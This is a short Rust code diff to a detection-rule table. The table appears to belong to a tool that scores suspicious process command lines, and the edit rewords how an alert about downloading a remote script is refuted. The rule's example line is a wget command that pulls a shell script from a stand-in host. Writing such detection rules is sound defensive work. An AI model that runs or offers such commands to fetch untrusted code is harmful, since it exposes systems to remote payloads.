@@ -87,7 +87,7 @@ pub(super) const ROWS: &[Indicator] = &[
         weight: 35,
         techniques: &["T1105"],
         reason: "What it fetches is a script or a program, from outside and not from a package source.",
-        refuted_by: "The file at that address, and who asked for it.",
+        refuted_by: "The file at that address is yours, or somebody of yours asked for it.",
         example: &[("proc.cmdline", "wget http://files.example/i.sh")],
         look_alike: &[("proc.cmdline", "wget https://files.example/prices.json")],
     },
